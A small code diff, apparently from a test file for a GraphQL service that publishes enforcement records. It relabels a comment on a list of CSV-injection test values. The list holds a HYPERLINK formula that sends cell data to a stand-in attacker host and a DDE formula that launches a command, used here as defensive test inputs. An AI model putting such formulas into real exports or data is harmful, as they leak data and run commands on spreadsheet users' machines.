@@ -15,7 +15,7 @@ const KIND = 'mutation($input: OtherInfoKindInput!) { saveOtherInfoKind(input: $
 const OTHER = `mutation($r: [OtherEnforcementInfoInput!]!) { publishOtherEnforcementInfos(records: $r) { accepted results { outcome error { code field } } } }`;
 const VIEWER = '{ viewer { unitCode } }';
 
-/** Party names a town could publish that a spreadsheet would run (issue #12 part 6). */
+/** Party names a town could publish that a spreadsheet would run (CSV injection, as OWASP describes it). */
 const FORMULAS = [
   '=HYPERLINK("http://evil.example/?d="&A2,"点击查看")',
   "=cmd|' /C calc'!A0",
